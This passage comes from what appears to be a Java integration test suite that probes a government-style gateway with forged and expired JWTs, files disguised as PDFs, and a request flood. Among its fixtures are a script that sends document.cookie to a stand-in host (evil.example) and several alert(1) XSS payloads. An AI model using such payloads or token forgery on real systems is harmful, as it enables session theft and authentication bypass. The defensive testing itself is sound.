			.put("iat", now.minusSeconds(3600).getEpochSecond()).put("exp", now.minusSeconds(1800).getEpochSecond())
			.toString(), ours));
		forged.put("expired, the realm's key", expiredRealmToken());
		forged.put("another realm (master's admin)", new Api(http, suite.gatewayUrl(), suite.keycloakUrl()).adminToken());
		forged.put("another client of the realm (admin-cli, not for the API)", passwordGrant("admin-cli", null,
				Keycloak.DemoUser.CITIZEN.username, Keycloak.DemoUser.CITIZEN.password));
		forged.put("garbage", "not-a-token");
		forged.put("three dots", "a.b.c");
		forged.put("empty parts", "..");
		forged.put("4 KB of base64", "A".repeat(4096));

		List<String> wrong = new ArrayList<>();
		String direct = suite.serviceUrl("elorda-application");
		for (var token : forged.entrySet()) {
			for (String path : List.of("/api/cabinet/v1/profile", "/api/elorda/v1/applications")) {
				Answer answer = send("GET", path, null, null, null, Map.of("Authorization", "Bearer " + token.getValue()));
				if (answer.status() != 401 || !problemIfError(answer)) {
					wrong.add(token.getKey() + " at the gateway, " + path + ": " + answer.status() + " " + answer.body());
				}
			}
			Answer directly = sendTo(direct, "GET", "/api/elorda/v1/my/applications", null, null,
					Map.of("Authorization", "Bearer " + token.getValue()));
			if (directly.status() != 401) {
				wrong.add(token.getKey() + " at elorda-application-service directly: " + directly.status() + " "
						+ directly.body());
			}
		}
		for (String header : List.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNz", "Bearer " + real + " " + real,
				"Digest username=\"a\"", "Bearer\t" + real.substring(0, 20), "Bearer =")) {
			Answer answer = send("GET", "/api/cabinet/v1/profile", null, null, null, Map.of("Authorization", header));
			if (answer.status() != 401 || !problemIfError(answer)) {
				wrong.add("Authorization: " + abbreviated(header) + ": " + answer.status() + " " + answer.body());
			}
		}
		// the real token still works: the refusals above were for the forgeries
		assertThat(send("GET", "/api/cabinet/v1/profile", Caller.CITIZEN_A, null, null, Map.of()).status()).isEqualTo(200);
		assertThat(wrong).isEmpty();
	}

	/**
	 * A token Keycloak really signed that has expired: a client of our own whose tokens live one second, asked with
	 * citizen A's password, then the validators' 60 s of clock skew waited out (obtained in setup, so usually past).
	 */
	private static String expiredRealmToken() {
		String token = expiring.get();
		long expiry = json.readTree(Base64.getUrlDecoder().decode(token.split("\\.")[1])).path("exp").asLong();
		await().atMost(EVENTUALLY).until(() -> Instant.now().getEpochSecond() > expiry + 61);
		return token;
	}

	private static final java.util.concurrent.atomic.AtomicReference<String> expiring = new java.util.concurrent.atomic.AtomicReference<>();

	private static void anExpiringToken() throws Exception {
		Api api = new Api(http, suite.gatewayUrl(), suite.keycloakUrl());
		String admin = api.adminToken();
		JsonNode realm = json.readTree(Files.readString(suite.config().repoRoot().resolve("deploy/keycloak/realm-elorda.json")));
		JsonNode mappers = null;
		for (JsonNode client : realm.path("clients")) {
			if (client.path("clientId").asString().equals("citizen-login")) {
				mappers = client.path("protocolMappers");
			}
		}
		String clientId = "hostile-expiring";
		String client = json.writeValueAsString(Map.of("clientId", clientId, "enabled", true, "publicClient", false,
				"secret", "hostile-local-secret", "directAccessGrantsEnabled", true, "standardFlowEnabled", false,
				"attributes", Map.of("access.token.lifespan", "1"), "protocolMappers", mappers));
		HttpResponse<String> created = http.send(HttpRequest.newBuilder(URI.create(suite.keycloakUrl()
				+ "/admin/realms/" + Keycloak.REALM + "/clients"))
			.header("Authorization", "Bearer " + admin)
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers.ofString(client))
			.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
		expiring.set(passwordGrant(clientId, "hostile-local-secret", Keycloak.DemoUser.CITIZEN.username,
				Keycloak.DemoUser.CITIZEN.password));
	}

	private static String passwordGrant(String clientId, @Nullable String secret, String username, String password) {
		String form = "grant_type=password&client_id=" + clientId + "&username=" + username + "&password=" + password
				+ (secret == null ? "" : "&client_secret=" + secret);
		try {
			HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(suite.keycloakUrl() + "/realms/"
					+ Keycloak.REALM + "/protocol/openid-connect/token"))
				.header("Content-Type", "application/x-www-form-urlencoded")
				.POST(HttpRequest.BodyPublishers.ofString(form))
				.build(), HttpResponse.BodyHandlers.ofString());
			assertThat(response.statusCode()).as(clientId + ": " + response.body()).isEqualTo(200);
			return json.readTree(response.body()).path("access_token").asString();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	private static String jwt(String header, String claims, @Nullable PrivateKey key) throws Exception {
		String signed = b64(header) + "." + b64(claims);
		if (key == null) {
			return signed + ".";
		}
		Signature rsa = Signature.getInstance("SHA256withRSA");
		rsa.initSign(key);
		rsa.update(signed.getBytes(StandardCharsets.US_ASCII));
		return signed + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(rsa.sign());
	}

	private static String hs256(String claims, String secret) throws Exception {
		String signed = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + b64(claims);
		Mac mac = Mac.getInstance("HmacSHA256");
		mac.init(new SecretKeySpec(secret.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
		return signed + "." + Base64.getUrlEncoder().withoutPadding()
			.encodeToString(mac.doFinal(signed.getBytes(StandardCharsets.US_ASCII)));
	}

	private static String b64(String text) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

	private static String flipped(String signature) {
		int middle = signature.length() / 2;
		return signature.substring(0, middle) + (signature.charAt(middle) == 'A' ? 'B' : 'A')
				+ signature.substring(middle + 1);
	}

	// ---------------------------------------------------------------------------------------------------------------
	// 5. Files disguised as PDF
	// ---------------------------------------------------------------------------------------------------------------

	@Example
	void filesDisguisedAsPdfAreRefusedNamingTheReasonAndNothingIsStored() {
		String before = documents();
		byte[] pdf = Api.SMALL_PDF;
		Map<String, byte[]> disguised = new LinkedHashMap<>();
		disguised.put("an executable (PE)", concat(new byte[] { 'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0 },
				new byte[512]));
		disguised.put("an ELF executable", concat(new byte[] { 0x7F, 'E', 'L', 'F', 2, 1, 1 }, new byte[256]));
		disguised.put("a ZIP archive", zip());
		disguised.put("a web page", ascii("<!DOCTYPE html><html><body><script>fetch('/api')</script></body></html>"));
		disguised.put("a script", ascii("(function(){document.location='https://evil.example/?c='+document.cookie})()"));
		disguised.put("an SVG with a script", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));
		disguised.put("a PDF header with garbage", concat(ascii("%PDF-1.7\n"), randomBytes(4096), ascii("\n%%EOF\n")));
		disguised.put("a PDF header alone", ascii("%PDF-1.4\n"));
		disguised.put("a PDF cut short", java.util.Arrays.copyOf(pdf, pdf.length / 2));
		disguised.put("a PDF and a ZIP at once (polyglot)", concat(pdf, zip()));
		disguised.put("a PDF that is also a web page (polyglot)", concat(ascii("%PDF-1.4\n%<html><script>alert(1)</script>\n"),
				java.util.Arrays.copyOfRange(pdf, 9, pdf.length)));
		Map<String, String> reasons = Map.ofEntries(Map.entry("a PDF header with garbage", "damaged"),
				Map.entry("a PDF header alone", "damaged"), Map.entry("a PDF cut short", "damaged"),
				Map.entry("a PDF and a ZIP at once (polyglot)", "mixed-content"),
				Map.entry("a PDF that is also a web page (polyglot)", "mixed-content"));

		List<String> wrong = new ArrayList<>();
		for (var file : disguised.entrySet()) {
			Answer answer = upload(Caller.CITIZEN_A, file.getValue(), "диплом.pdf", "application/pdf");
			JsonNode problem = answer.contentType() != null && answer.contentType().startsWith("application/problem+json")
					? json.readTree(answer.body()) : json.createObjectNode();
			String reason = reasons.getOrDefault(file.getKey(), "not-a-document");
			if (answer.status() != 415 || !problemIfError(answer)
					|| !problem.path("code").asString().equals("unsupported-document-format")
					|| !problem.path("reason").asString().equals(reason)
					|| !problem.path("detail").asString().contains("PDF, JPEG")) {
				wrong.add(file.getKey() + ": " + answer.status() + " " + answer.body() + " (expected 415, reason " + reason + ")");
			}
		}
		// over the limit: refused while read (elorda's 10 MB; the gateway passes it on)
		byte[] big = concat(new byte[11 * 1024 * 1024 - pdf.length], pdf);
		System.arraycopy(pdf, 0, big, 0, 9);
		Answer tooLarge = upload(Caller.CITIZEN_A, big, "big.pdf", "application/pdf");
		if (tooLarge.status() != 413 || !problemIfError(tooLarge) || !tooLarge.body().contains("document-too-large")) {
			wrong.add("11 MB: " + tooLarge.status() + " " + abbreviated(tooLarge.body()));
		}
		assertThat(wrong).isEmpty();
		assertThat(documents()).as("nothing stored").isEqualTo(before);
	}

	private static String documents() {
		Answer list = send("GET", "/api/elorda/v1/applications/" + ids.get("application") + "/documents",
				Caller.CITIZEN_A, null, null, Map.of());
		assertThat(list.status()).as(list.body()).isEqualTo(200);
		return list.body();
	}

	/** A small ZIP archive with one entry, as a JAR or an Office file is. */
	private static byte[] zip() {
		var bytes = new ByteArrayOutputStream();
		try (var zip = new java.util.zip.ZipOutputStream(bytes)) {
			zip.putNextEntry(new java.util.zip.ZipEntry("payload.js"));
			zip.write(ascii("alert(1)"));
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	// ---------------------------------------------------------------------------------------------------------------
	// 6. The gateway's rate limit
	// ---------------------------------------------------------------------------------------------------------------

	/**
	 * The anonymous limit is per client address (as a trusted proxy forwards it; the test connects from loopback, one):
	 * a concurrent burst over it is answered 429 with {@code Retry-After}; another address and a signed-in person go
	 * on meanwhile.
	 */
	@Example
	void aBurstOverTheLimitIsA429ForThatClientOnly() throws Exception {
		String flooding = "198.51.100." + ThreadLocalRandom.current().nextInt(1, 255);
		Map<String, String> from = Map.of("X-Forwarded-For", flooding);
		var burst = new ArrayList<java.util.concurrent.CompletableFuture<Answer>>();
		try (var threads = java.util.concurrent.Executors.newFixedThreadPool(16)) {
			for (int i = 0; i < 300; i++) {
				burst.add(java.util.concurrent.CompletableFuture.supplyAsync(() -> send("GET",
						"/api/elorda/v1/loan-calculator?amount=5000000", null, null, null, from), threads));
			}
		}
		List<Answer> answers = burst.stream().map(java.util.concurrent.CompletableFuture::join).toList();
		Map<Integer, Long> statuses = answers.stream()
			.collect(Collectors.groupingBy(Answer::status, Collectors.counting()));
		assertThat(statuses.keySet()).as(statuses.toString()).containsOnly(200, 429);
		assertThat(statuses.get(200)).as("the burst let through").isGreaterThanOrEqualTo(60);
		assertThat(statuses.get(429)).as("the rest refused").isPositive();
		Answer limited = answers.stream().filter(answer -> answer.status() == 429).findFirst().orElseThrow();
		assertThat(problemIfError(limited)).isTrue();
		assertThat(json.readTree(limited.body()).path("code").asString()).isEqualTo("too-many-requests");
		assertThat(limited.headers().firstValue("Retry-After")).hasValueSatisfying(
				seconds -> assertThat(Integer.parseInt(seconds)).isPositive());

		// meanwhile others go on: another address, and citizen A from the flooding address (counted by his token)
		assertThat(send("GET", "/api/elorda/v1/loan-calculator?amount=5000000", null, null, null,
				Map.of("X-Forwarded-For", "198.51.100.0")).status()).isEqualTo(200);
		assertThat(send("GET", "/api/cabinet/v1/profile", Caller.CITIZEN_A, null, null, from).status()).isEqualTo(200);
		// and the flooding client is let through again once it waited as told
		int retryAfter = Integer.parseInt(limited.headers().firstValue("Retry-After").orElseThrow());
		await().pollDelay(Duration.ofSeconds(retryAfter)).atMost(EVENTUALLY).until(() -> send("GET",
				"/api/elorda/v1/loan-calculator?amount=5000000", null, null, null, from).status() == 200);
	}

	// ---------------------------------------------------------------------------------------------------------------
	// HTTP
	// ---------------------------------------------------------------------------------------------------------------

	record Parameter(String name, String in) {
	}

	record Operation(String service, String method, String template, List<Parameter> parameters, List<String> bodyTypes,
			List<String> fields) {

		String key() {
			return method + " " + template;
		}
	}

	record Answer(String uri, int status, @Nullable String contentType, String body, java.net.http.HttpHeaders headers) {
	}

	private record Token(String value, Instant obtained) {
	}

	/** The caller's access token, renewed a minute before its five minutes run out. */
	private static String token(Caller caller) {
		return tokens.compute(caller, (key, token) -> token != null
				&& token.obtained().isAfter(Instant.now().minus(Duration.ofMinutes(4))) ? token
						: new Token(login(caller), Instant.now()))
			.value();
	}

	private static String login(Caller caller) {
		Keycloak.DemoUser user = switch (caller) {
			case CITIZEN_A -> Keycloak.DemoUser.CITIZEN;
			case CITIZEN_B -> Keycloak.DemoUser.CITIZEN2;
			case AKIMAT -> Keycloak.DemoUser.AKIMAT_OFFICER;
			case BANK -> Keycloak.DemoUser.BANK_OFFICER;
			case EDITOR -> Keycloak.DemoUser.CONTENT_EDITOR;
			case OPERATOR -> Keycloak.DemoUser.CABINET_OPERATOR;
			case ANONYMOUS -> throw new IllegalArgumentException("no token for anonymous");
		};
		if (user.staff()) {
			return staffLogin.login(user.username, user.password).accessToken();
		}
		Answer session = send("POST", "/api/identity/v1/sessions", Caller.ANONYMOUS, """
				{"userType":"CLIENT","accountNumber":"%s","iin":"%s","password":"%s"}"""
			.formatted(user.accountNumber, user.username, user.password), "application/json", Map.of());
		assertThat(session.status()).as(session.body()).isEqualTo(200);
		return json.readTree(session.body()).path("accessToken").asString();
	}

	private static Answer upload(Caller caller, byte[] content, String fileName, String mediaType) {
		String boundary = "hostile" + UUID.randomUUID();
		var body = new ByteArrayOutputStream();
		LocalDate today = LocalDate.now(ALMATY);
		for (String[] field : List.of(new String[] { "type", "DIPLOMA" },
				new String[] { "holderIin", Keycloak.DemoUser.CITIZEN.username },
				new String[] { "issuedOn", today.toString() })) {
			body.writeBytes(ascii("--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n".formatted(boundary,
					field[0], field[1])));
		}
		body.writeBytes(("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n"
			.formatted(boundary, fileName, mediaType)).getBytes(StandardCharsets.UTF_8));
		body.writeBytes(content);
		body.writeBytes(ascii("\r\n--%s--\r\n".formatted(boundary)));
		return send("POST", "/api/elorda/v1/applications/" + ids.get("application") + "/documents", caller,
				body.toByteArray(), "multipart/form-data; boundary=" + boundary, Map.of());
	}

	private static Answer send(String method, String path, @Nullable Caller caller, @Nullable Object body,
			@Nullable String contentType, Map<String, String> headers) {
		Map<String, String> all = new HashMap<>(headers);
		if (caller != null && caller != Caller.ANONYMOUS) {
			all.put("Authorization", "Bearer " + token(caller));
		}
		if (caller == Caller.ANONYMOUS && !headers.containsKey("X-Forwarded-For")) {
			// anonymous requests from many clients (the loopback test client is a trusted proxy): none is limited
			ThreadLocalRandom random = ThreadLocalRandom.current();
			all.put("X-Forwarded-For", "198.18.%d.%d".formatted(random.nextInt(256), random.nextInt(1, 255)));
		}
		return sendTo(suite.gatewayUrl(), method, path, body, contentType, all);
	}

	private static Answer sendTo(String base, String method, String path, @Nullable Object body,
			@Nullable String contentType, Map<String, String> headers) {
		String uri = base + path;
		HttpRequest.BodyPublisher publisher = body == null ? HttpRequest.BodyPublishers.noBody()
				: body instanceof byte[] bytes ? HttpRequest.BodyPublishers.ofByteArray(bytes)
						: HttpRequest.BodyPublishers.ofString((String) body, StandardCharsets.UTF_8);
		var request = HttpRequest.newBuilder(URI.create(uri))
			.timeout(Duration.ofSeconds(60))
			.header("Accept-Language", "en")
			.method(method, publisher);
		if (contentType != null) {
			request.header("Content-Type", contentType);
		}
		headers.forEach(request::header);
		try {
			HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
			return new Answer(uri, response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
					response.body(), response.headers());
		}
		catch (IOException ex) {
			// a reset connection counts as a failure of the suite, like a 5xx
			return new Answer(uri, 0, null, ex.toString(), java.net.http.HttpHeaders.of(Map.of(), (a, b) -> true));
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	private static String abbreviated(String text) {
		return text.length() > 300 ? text.substring(0, 300) + "…" : text;
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] randomBytes(int size) {
		byte[] bytes = new byte[size];
		ThreadLocalRandom.current().nextBytes(bytes);
		return bytes;
	}

	private static byte[] concat(byte[]... parts) {
		var out = new ByteArrayOutputStream();
		for (byte[] part : parts) {
			out.writeBytes(part);
		}
		return out.toByteArray();
	}
}
